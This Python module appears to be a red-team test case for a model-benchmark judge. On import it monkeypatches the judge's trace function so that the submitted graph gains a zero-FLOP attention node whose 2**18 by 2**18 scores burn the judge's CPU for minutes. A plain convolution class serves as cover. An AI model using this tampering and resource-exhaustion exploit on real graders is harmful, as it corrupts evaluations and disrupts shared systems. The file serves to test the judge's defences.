"""Hostile (second outside red team): one graph node that costs the judge 0 counted FLOPs and minutes of CPU.

Mechanism: _graph._cost prices _scaled_dot_product_flash_attention_for_cpu with torch's
sdpa formula, 4*b*h*s_q*s_k*d, which is 0 when the head dim d is 0. The element limits
only see q [1,1,SQ,0], k/v [1,1,SK,0] (0 elements each) and logsumexp [1,1,SQ], and
_check_attention accepts d == 0 (it only checks q/k/v agree). The CPU flash kernel still
computes (and softmaxes) every one of the SQ*SK scores: about 1.5 ns per pair.
This correct module's own process patches _trace.trace (found through sys.modules) so that
the graph it SENDS gains three nodes the module never runs: zeros(q), zeros(k), and the
attention with SQ = SK = 2**18 (6.9e10 pairs, ~100+ s in ONE node; the deadline is only
checked between nodes). The graph is data the judge must not trust (README: Isolation).
Expected correct verdict: PASS, or FAIL/ERROR within the timeout.
Break: the trusted judge burns a core for minutes, past the submission's timeout (until
the judge server's backstop kills it: "internal grader error"/"the judge died").
"""
import sys
from torch import nn

SQ = 2 ** 18
SK = 2 ** 18


def _extra(graph):
    nodes = graph["nodes"]
    q = len(nodes)
    nodes.append({"op": "aten.zeros.default", "args": [[1, 1, SQ, 0]], "kwargs": {}})
    nodes.append({"op": "aten.zeros.default", "args": [[1, 1, SK, 0]], "kwargs": {}})
    nodes.append({"op": "aten._scaled_dot_product_flash_attention_for_cpu.default",
                  "args": [{"n": q}, {"n": q + 1}, {"n": q + 1}], "kwargs": {}})


for _name, _mod in list(sys.modules.items()):
    if _name.endswith("._trace") and hasattr(_mod, "trace"):
        _orig = _mod.trace

        def _trace(*args, _orig=_orig, **kwargs):
            graph = _orig(*args, **kwargs)
            if isinstance(graph, dict) and isinstance(graph.get("nodes"), list):
                _extra(graph)
            return graph

        _mod.trace = _trace


class SeparableConv2d(nn.Module):
    def __init__(self, in_channels, out_channels, kernel_size=3):
        super().__init__()
        self.depthwise = nn.Conv2d(in_channels, in_channels, kernel_size,
                                   padding=kernel_size // 2, groups=in_channels, bias=False)
        self.pointwise = nn.Conv2d(in_channels, out_channels, 1, bias=False)

    def forward(self, x):
        return self.pointwise(self.depthwise(x))
